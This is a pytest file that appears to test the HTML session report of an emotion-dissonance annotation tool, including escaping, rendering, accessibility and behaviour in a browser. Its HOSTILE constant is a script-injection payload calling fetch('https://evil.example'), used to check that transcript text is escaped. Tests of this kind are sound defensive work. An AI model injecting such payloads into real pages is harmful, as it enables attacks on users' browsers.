"""The session report: what it holds, what it keeps out, and that it works in a real browser."""

from __future__ import annotations

import shutil
from html.parser import HTMLParser

import numpy as np
import pandas as pd
import pytest

import emodiss
from emodiss.exports.methods import methods
from emodiss.runs import seals
from emodiss.web import curves, report
from tests.browser import chromium

HOSTILE = "</script><script>fetch('https://evil.example')</script><img src=x onerror=alert(1)> & so"


class Tags(HTMLParser):
    """Tags with their attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.tags if name == tag]


@pytest.fixture(scope="module")
def run(study_run, tmp_path_factory):
    """Two sessions of two utterances: one dissonant and hostile, one undetermined, two plain."""
    found = emodiss.load(shutil.copytree(study_run, tmp_path_factory.mktemp("report") / "run"))
    table = found.utterances
    table.loc[0, "text"] = HOSTILE
    table["dissonant"] = pd.array([True, None, False, False], dtype="boolean")
    table["dissonance_axis"] = pd.array(["arousal", None, None, None], dtype="str")
    reasons = [None, "speech:too_short;face:off_screen", None, None]
    table["dissonance_reason"] = pd.array(reasons, dtype="str")
    table.loc[0, ["speech_valence", "speech_arousal"]] = [0.25, -0.5]
    table.loc[1, ["speech_valence", "speech_arousal"]] = np.nan
    table.to_parquet(found.root / "utterances.parquet", index=False)
    seals.forget(found.root / "utterances.parquet")
    return found


@pytest.fixture(scope="module")
def pages(run, tmp_path_factory):
    """Folder with the pages of both sessions."""
    return report.write(run, tmp_path_factory.mktemp("pages")).parent


def page_of(pages, video: str) -> str:
    return (pages / f"{video}.session.html").read_text(encoding="utf-8")


def test_a_page_holds_everything_and_asks_nobody(pages, study):
    tags = Tags(page_of(pages, "a"))
    assert {t for t, _ in tags.tags} & {"iframe", "object", "embed"} == set()
    for _, attributes in tags.tags:
        for name in ("src", "href", "action", "poster", "srcset", "data"):
            address = attributes.get(name) or ""
            assert "//" not in address, address
    (video,) = tags.of("video")
    assert (pages / video["src"]).resolve() == (study / "a.mp4").resolve()
    assert "This page holds people" in page_of(pages, "a")
    policy = next(m["content"] for m in tags.of("meta") if m.get("http-equiv"))
    assert "default-src 'none'" in policy and "unsafe-inline" not in policy.partition("script")[2]


@pytest.mark.parametrize(
    ("value", "text"),
    [(0.126, "+0.13"), (-0.126, "\u22120.13"), (-0.001, "+0.00"), (0.0, "+0.00"), (np.nan, "")],
)
def test_numbers_have_a_sign_and_zero_is_not_negative(value, text):
    assert report.signed(value) == text


def test_what_people_say_cannot_become_part_of_the_page(pages):
    page = page_of(pages, "a")
    tags = Tags(page)
    assert len(tags.of("script")) == 1 and not tags.of("img")
    assert "&lt;/script&gt;&lt;script&gt;" in page


def test_lines_state_time_role_flag_reason_and_numbers(pages):
    lines = [a for a in Tags(page_of(pages, "a")).of("li") if "data-state" in a]
    assert [(a["id"], a["data-state"], a["data-role"]) for a in lines] == [
        ("u0001", "dissonant", "therapist"),
        ("u0002", "undetermined", "patient"),
    ]
    page = page_of(pages, "a")
    assert "dissonant in arousal" in page
    assert "too short to judge the voice; the face is out of the picture" in page
    assert "voice valence +0.25, arousal \N{MINUS SIGN}0.50" in page
    assert "voice not measured" in page


def test_the_index_counts_each_session_and_all(pages):
    page = (pages / "index.html").read_text(encoding="utf-8")
    tags = Tags(page)
    assert {a["href"] for a in tags.of("a")} == {"a.session.html", "b.session.html"}
    values = [a["data-value"] for t, a in tags.tags if t in ("td", "th") and "data-value" in a]
    assert values[0] == "a" and values[2:6] == ["2", "1", "1.0", "1"]
    assert values[6] == "b" and values[8:12] == ["2", "0", "0.0", "0"]


def test_a_session_in_which_nobody_speaks_has_a_page(study, tmp_path, stand_ins):
    (tmp_path / "hush.csv").write_text("id,path,transcript,end\nhush,hush.mp4,hush.vtt,1\n")
    shutil.copy(study / "a.mp4", tmp_path / "hush.mp4")
    (tmp_path / "hush.vtt").write_text("WEBVTT\n\n00:02.000 --> 00:02.900\nTo come.\n")
    found = emodiss.annotate(
        tmp_path / "hush.csv", out=tmp_path / "run", preset="lite", settings=stand_ins, workers=0
    )
    assert not found.failures and len(found.utterances) == 0
    page = (report.write(found).parent / "hush.session.html").read_text(encoding="utf-8")
    assert "<video" in page and "0:01, nobody speaks</p>" in page


def test_words_that_are_doubted_say_so_until_a_person_settles_them(run):
    row = next(run.utterances.itertuples())
    row = row._replace(flags="repetition;voice_doubtful;backchannel")
    assert report.line_of(row).doubt == "the recogniser repeats itself; may be another voice"
    row = row._replace(flags=f"{row.flags};reviewed_text")
    assert report.line_of(row).doubt == "may be another voice"
    assert report.line_of(row._replace(flags=f"{row.flags};reviewed_speaker")).doubt == ""
    assert report.line_of(row._replace(flags="")).doubt == ""


def test_a_session_that_failed_says_why(study, tmp_path, stand_ins):
    folder = shutil.copytree(study, tmp_path / "study")
    (folder / "lost.csv").write_text("id,path\na,a.mp4\nlost,lost.mp4\n")
    found = emodiss.annotate(
        folder / "lost.csv", out=tmp_path / "run", preset="lite", settings=stand_ins, workers=0
    )
    index = report.write(found)
    assert index == found.root / "report" / "index.html"
    page = index.read_text(encoding="utf-8")
    assert "lost" in page and found.failures[0].error["what"][:20] in page
    assert not (index.parent / "lost.session.html").exists()


def test_a_threshold_that_is_a_quantile_is_told_as_it_is(study, tmp_path, stand_ins, finished_run):
    run = emodiss.annotate(
        study / "manifest.csv",
        out=tmp_path / "run",
        preset="lite",
        settings={**stand_ins, "dissonance.quantile": 0.25},
        workers=0,
    )
    table = run.utterances
    table["dissonance_threshold"] = np.where(table["video_id"] == "a", 0.125, np.nan)
    table.to_parquet(run.root / "utterances.parquet", index=False)
    seals.forget(run.root / "utterances.parquet")
    folder = report.write(run).parent
    assert "T&nbsp;=&nbsp;0.125)" in page_of(folder, "a")
    assert "T&nbsp;=&nbsp;0.25 quantile of each session)" in page_of(folder, "b")  # none is known
    assert "threshold: 0.25 quantile of each session" in (folder / "index.html").read_text("utf-8")
    assert "more than the 0.25 quantile of its session's differences" in methods(run)


def test_only_known_sessions_can_be_asked_for(run, tmp_path):
    report.write(run, tmp_path, videos=["b"])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.session.html", "index.html"]
    with pytest.raises(emodiss.EmodissError, match="no video 'c'"):
        report.write(run, tmp_path, videos=["c"])


def test_the_same_run_gives_the_same_pages(run, pages):
    before = {p.name: p.read_bytes() for p in pages.iterdir()}
    report.write(run, pages)
    assert {p.name: p.read_bytes() for p in pages.iterdir()} == before


# --- curves --------------------------------------------------------------------------------------


def test_curves_lie_where_times_and_values_say():
    table = pd.DataFrame(
        {
            "utterance_id": ["u1", "u2"],
            "speaker": ["Ada", "Bo"],
            "role": ["patient", None],
            "start": [10.0, 15.0],
            "end": [12.5, 20.0],
            "speech_valence": [1.0, np.nan],
            "face_valence": [-1.0, 0.0],
            "dissonant": pd.array([True, None], dtype="boolean"),
            "dissonance_axis": ["valence", None],
        }
    )
    frames = pd.DataFrame(
        {"utterance_id": ["u1", "u1", "u2"], "time": [10.0, 10.1, 20.0], "valence": [0, 0.5, -1.0]}
    )
    panel = curves.panel("valence", table, frames, 10.0, 20.0)
    # 10 s are 10,000 units; +1 is the top, 0, and -1 the bottom, 200.
    assert panel.voice == "M0.0 0.0H2500.0"
    assert panel.face == "M0.0 200.0H2500.0M5000.0 100.0H10000.0"
    assert panel.frames == "M0.0 100.0L100.0 50.0M10000.0 200.0"
    (shade,) = panel.shades
    assert (shade.x, shade.width, shade.id, shade.state) == (0.0, 2500.0, "u1", "dissonant")
    lanes = curves.lanes(table, 10.0, 20.0)
    assert [(name, [b.kind for b in bars]) for name, bars in lanes] == [
        ("Ada", ["patient"]),
        ("Bo", ["voice0"]),  # nobody knows the role: a look of its own
    ]


def test_an_hour_of_frames_is_thinned_to_means_and_gaps_stay():
    n = 60_000
    time = np.r_[np.arange(n // 2) / 15, 3000 + np.arange(n // 2) / 15]
    frames = pd.DataFrame(
        {"utterance_id": np.repeat(["u1", "u2"], n // 2), "time": time, "valence": np.repeat(
            [0.5, -0.5], n // 2)}
    )  # fmt: skip
    path = curves.line_path(frames, "valence", 0.0, 6000.0)
    assert path.count("M") == 2
    assert 2900 <= path.count("L") + path.count("M") <= 3100
    # Means of constants are the constants: 0.5 lies at 50, -0.5 at 150.
    heights = {part.split(" ")[1] for part in path.replace("M", "L").split("L")[1:]}
    assert heights == {"50.0", "150.0"}


def test_a_curve_breaks_at_gaps_and_not_where_looks_lie_apart():
    # A long utterance is looked at every half second, a short one every fifth.
    time = np.array([0.0, 0.5, 1.0, 3.0, 3.5, 4.0, 4.2, 4.4, 5.0, 5.2])
    frames = pd.DataFrame(
        {"utterance_id": ["u1"] * 5 + ["u2"] * 5, "time": time, "valence": np.zeros(10)}
    )
    path = curves.line_path(frames, "valence", 0.0, 10.0)
    starts = [float(part.split(" ")[0].split("L")[0]) for part in path.split("M")[1:]]
    assert starts == [0.0, 3000.0, 4000.0, 5000.0]
    assert curves.line_path(frames.iloc[:0], "valence", 0.0, 10.0) == ""


# --- in a browser --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser(tmp_path_factory):
    with chromium(tmp_path_factory.mktemp("profile")) as found:
        yield found


@pytest.fixture
def page(browser, pages):
    tab = browser.page()
    tab.size(1300, 900)
    tab.open((pages / "a.session.html").as_uri())
    tab.wait("document.querySelector('video').readyState >= 1")
    yield tab
    assert tab.complaints == []
    assert {a.partition(":")[0] for a in tab.requests} <= {"file", "data"}


VIDEO = "document.querySelector('video')"
NOW = "document.querySelector('.now')?.id"


def test_a_click_on_a_line_moves_video_playhead_and_highlight(page):
    assert page.js(NOW) == "u0001"
    page.click("#u0002 button")
    page.wait(f"Math.abs({VIDEO}.currentTime - 1.3) < 0.1")
    assert page.js(NOW) == "u0002"
    assert page.js("document.getElementById('u0002').getAttribute('aria-current')") == "true"
    # The session lasts 3 s, give or take a frame: the playhead stands at 1.3 of them.
    left = page.js("parseFloat(document.getElementById('playhead').style.left)")
    assert left == pytest.approx(100 * 1.3 / 3, abs=1.5)
    page.click("#u0001 button")
    page.wait(f"{VIDEO}.currentTime < 0.1 && {NOW} === 'u0001'")


def test_playing_carries_the_highlight_along(page):
    page.click("#u0001 button")
    page.js(f"{VIDEO}.muted = true")
    page.js("document.activeElement.blur()")
    page.press(" ")
    page.wait(f"!{VIDEO}.paused")
    page.wait(f"{NOW} === 'u0002'")
    page.press(" ")
    page.wait(f"{VIDEO}.paused")


def test_a_click_on_the_curves_goes_there(page):
    page.click("#time", x=0.9, y=0.3)
    page.wait(f"Math.abs({VIDEO}.currentTime - 2.7) < 0.15")
    assert page.js(NOW) == "u0002"


def test_everything_can_be_done_with_keys(page):
    page.js("document.getElementById('time').focus()")
    page.press("End")
    page.press("ArrowLeft")
    page.wait(f"Math.abs({VIDEO}.currentTime - 2) < 0.1")
    page.press("f")  # the next dissonant line: there is none after
    assert page.js(NOW) == "u0002"
    page.press("F", shift=True)
    page.wait(f"{NOW} === 'u0001'")
    page.press("n")
    page.wait(f"{NOW} === 'u0002'")
    page.press("p")
    page.wait(f"{NOW} === 'u0001'")
    # One stop in the tab order for all lines; arrows walk through them, Enter jumps.
    page.js("document.querySelector('#u0001 button').focus()")
    page.press("ArrowDown")
    assert page.js("document.activeElement.parentElement.id") == "u0002"
    assert page.js("document.querySelectorAll('.lines button[tabindex=\"0\"]').length") == 1
    page.press("Enter")
    page.wait(f"{NOW} === 'u0002'")


def test_filters_show_what_was_asked_for_and_say_how_many(page):
    shown = "[...document.querySelectorAll('.lines li:not([hidden])')].map(e => e.id).join()"
    page.click("input[value=dissonant]")
    assert page.js(shown) == "u0001"
    assert page.js("document.getElementById('status').textContent") == "1 of 2 lines"
    page.click("input[value=undetermined]")
    assert page.js(shown) == "u0002"
    page.click("input[value='']")
    choose = "(e => { e.selectedIndex = 1; e.dispatchEvent(new Event('change', {bubbles: true})) })"
    page.js(f"{choose}(document.getElementById('reason'))")
    assert page.js(shown) == "u0002"


def test_a_screen_reader_finds_names_roles_and_the_curves_in_words(page):
    tree = page.tree()
    names = {role: [n for r, n in tree if r == role] for role, _ in tree}
    assert "Position in the session" in names["slider"]
    assert any("dissonant in arousal" in n and "Ada (therapist)" in n for n in names["button"])
    assert {"Role", "Reason"} <= {n.strip() for n in names["combobox"]}
    assert len(names["radio"]) == 4 and all(names["radio"])
    assert "Session a" in names["heading"] and "Transcript" in names["heading"]
    said = " ".join(n for _, n in tree)
    assert "Valence. voice: mean +0.25 over 1 utterance;" in said
    assert all(n for role in ("button", "link", "slider", "checkbox") for n in names[role])


def test_colours_follow_the_system_and_can_be_chosen(page):
    ground = "getComputedStyle(document.body).backgroundColor"
    page.prefer("light")
    assert page.js(ground) == "rgb(255, 255, 255)"
    page.prefer("dark")
    dark = page.js(ground)
    assert dark != "rgb(255, 255, 255)"
    page.click("#theme")  # automatic to light
    assert page.js(ground) == "rgb(255, 255, 255)"
    page.click("#theme")
    assert page.js(ground) == dark
    page.click("#theme")


def test_on_paper_ink_is_dark_and_controls_are_gone_but_curves_are_not(page):
    dark = {"name": "prefers-color-scheme", "value": "dark"}
    page.send("Emulation.setEmulatedMedia", media="print", features=[dark])
    try:
        # Ink of the light palette, #1d2126.
        assert page.js("getComputedStyle(document.body).color") == "rgb(29, 33, 38)"
        height = "(s => document.querySelector(s).getBoundingClientRect().height)"
        for selector in ("#video", "#theme", "#filters", "#narrower"):
            assert page.js(f"{height}('{selector}')") == 0, selector
        for selector in ("#time", "#lines", "svg.panel"):
            assert page.js(f"{height}('{selector}')") > 20, selector
    finally:
        page.send("Emulation.setEmulatedMedia", media="", features=[])


@pytest.mark.parametrize("name", ["a.session.html", "index.html"])
def test_a_narrow_window_needs_no_sideways_scrolling_of_the_page(browser, pages, name):
    tab = browser.page()
    tab.size(400, 800)
    tab.open((pages / name).as_uri())
    assert tab.js("document.documentElement.scrollWidth") <= 400


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_ground(page, scheme):
    # WCAG 2.2, 1.4.3: at least 4.5 to 1.
    page.prefer(scheme)
    colours = page.js(
        "(() => { const s = getComputedStyle(document.documentElement);"
        "return Object.fromEntries(['ground', 'raised', 'ink', 'soft', 'flag', 'flag-ground',"
        "'therapist', 'patient', 'other', 'unknown', 'now', 'focus'].map("
        "n => [n, s.getPropertyValue('--' + n).trim()])) })()"
    )

    def luminance(colour: str) -> float:
        parts = np.array([int(colour[k : k + 2], 16) for k in (1, 3, 5)]) / 255
        linear = np.where(parts <= 0.04045, parts / 12.92, ((parts + 0.055) / 1.055) ** 2.4)
        return float(linear @ [0.2126, 0.7152, 0.0722])

    def contrast(a: str, b: str) -> float:
        high, low = sorted((luminance(colours[a]), luminance(colours[b])), reverse=True)
        return (high + 0.05) / (low + 0.05)

    for ground in ("ground", "flag-ground", "now"):
        for ink in ("ink", "soft", "therapist", "patient", "other", "unknown", "flag"):
            assert contrast(ink, ground) >= 4.5, (ink, ground, contrast(ink, ground))


def test_a_link_to_a_line_opens_there(browser, pages):
    tab = browser.page()
    tab.open((pages / "a.session.html").as_uri() + "#u0002")
    tab.wait(f"{NOW} === 'u0002'")
    tab.wait(f"Math.abs({VIDEO}.currentTime - 1.3) < 0.1")


def test_without_the_video_the_page_says_so_and_the_rest_works(browser, pages, tmp_path):
    copy = tmp_path / "elsewhere" / "a.session.html"
    copy.parent.mkdir()
    copy.write_text(page_of(pages, "a"), encoding="utf-8")
    tab = browser.page()
    tab.open(copy.as_uri())
    tab.wait("!document.getElementById('absent').hidden")
    tab.click("#u0002 button")
    assert tab.js(NOW) == "u0002"


def test_the_index_sorts_by_a_heading(browser, pages):
    tab = browser.page()
    tab.open((pages / "index.html").as_uri())
    first = "document.querySelector('tbody tr th').textContent"
    assert tab.js(first) == "a"
    tab.click("thead th:nth-child(4) button")  # dissonant, fewest first
    assert tab.js(first) == "b"
    tab.click("thead th:nth-child(4) button")
    assert tab.js(first) == "a"
    heading = "document.querySelector('thead th:nth-child(4)')"
    assert tab.js(f"{heading}.getAttribute('aria-sort')") == "descending"
    assert tab.complaints == []
